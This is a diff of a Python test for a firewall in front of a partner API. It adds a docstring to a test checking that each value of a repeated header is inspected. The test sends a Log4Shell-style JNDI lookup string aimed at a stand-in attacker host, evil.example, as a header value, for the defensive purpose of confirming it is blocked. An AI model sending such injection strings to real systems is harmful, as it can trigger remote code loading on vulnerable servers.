@@ -58,6 +58,7 @@ def access_log(deployment: Deployment, request_id: str) -> list[str]:
 def test_the_firewall_judges_each_value_of_a_repeated_header(
     partner: PartnerApi, front_door: Wire
 ) -> None:
+    """Here our approximation of AWS's group blocks; that AWS's own does, only AWS shows."""
     attack = ("x-any", "${jndi:ldap://evil.example/a}")
     sent = [("x-api-key", partner.key), ("user-agent", "suite"), attack, ("x-any", "harmless")]
 
